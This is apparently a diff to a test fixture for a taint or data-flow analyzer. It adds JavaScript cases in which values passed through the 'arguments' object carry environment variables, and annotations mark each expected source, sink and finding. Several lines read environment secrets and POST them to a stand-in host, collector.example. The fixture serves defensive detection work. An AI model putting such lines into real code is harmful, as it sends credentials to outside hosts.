@@ -23,3 +23,31 @@ function report(kind) {
   made(process.env.MADE); //~ source(ENVIRONMENT) f3
 }
 report(process.argv[2]);
+
+// What a function is given and has no parameters for.
+function joined(target) {
+  for (let i = 1; i < arguments.length; i++) {
+    const source = arguments[i];
+    for (const key in source) {
+      if (Object.prototype.hasOwnProperty.call(source, key)) target[key] = source[key];
+    }
+  }
+  return target;
+}
+const merged = joined({}, { a: 1 }, { token: process.env.MERGED }); //~ source(ENVIRONMENT) f4
+fetch('https://collector.example/merged', { method: 'POST', body: JSON.stringify(merged) }); //~ sink(egress.http) f4, finding(traced) f4
+
+function relay() {
+  const inner = () => arguments[0];
+  return post.apply(this, arguments).concat(inner());
+}
+function post(to, text) {
+  fetch(to, { method: 'POST', body: text }); //~ sink(egress.http) f5, finding(traced) f5
+  return '';
+}
+relay('https://collector.example/relayed', process.env.RELAYED); //~ source(ENVIRONMENT) f5
+
+function counted() {
+  fetch('https://collector.example/counted', { method: 'POST', body: arguments.length }); //~ ok
+}
+counted(process.env.COUNTED);
